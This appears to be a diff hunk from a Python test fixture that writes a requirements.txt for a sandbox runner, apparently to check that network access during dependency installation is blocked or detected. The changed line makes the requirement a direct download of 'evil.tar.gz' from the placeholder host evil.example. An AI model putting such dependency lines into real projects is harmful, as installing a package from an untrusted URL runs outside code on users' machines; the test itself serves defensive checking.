@@ -147,7 +147,7 @@ def runner(tmp_path: Path, network: tuple[tuple[str, ...], Path]) -> Iterator[Ru
         work.write(
             {
                 "train.py": "import nothing_like_this\n",
-                "requirements.txt": "--index-url https://evil.example\nevil\n",
+                "requirements.txt": "evil @ https://evil.example/evil.tar.gz\n",
             }
         )
         yield Runner(work, heard)
